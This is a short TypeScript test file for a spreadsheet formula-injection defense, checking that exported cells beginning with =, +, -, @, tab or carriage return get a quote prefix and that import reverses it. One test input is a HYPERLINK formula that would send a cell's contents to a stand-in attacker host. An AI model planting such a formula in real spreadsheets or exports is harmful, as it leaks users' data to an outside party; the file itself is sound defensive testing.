import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { neutralizeFormula, restoreFormula } from "./formula-cells";

describe("formula cells", () => {
  it("prefixes every cell a spreadsheet would run as a formula", () => {
    const cells = ['=HYPERLINK("https://evil.example/?d="&A1,"Details")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"];
    for (const cell of cells) expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    expect(neutralizeFormula("''=x")).toBe("'''=x");
    for (const cell of ["Drill", "", "2-3", "'quoted'", "a=b"]) expect(neutralizeFormula(cell)).toBe(cell);
  });

  it("an import gives back exactly what the export neutralized, for any text", () => {
    const text = fc.stringMatching(/^['=+@\t\r\-a-z0-9 ]{0,8}$/);
    fc.assert(fc.property(text, (value) => restoreFormula(neutralizeFormula(value)) === value));
  });
});
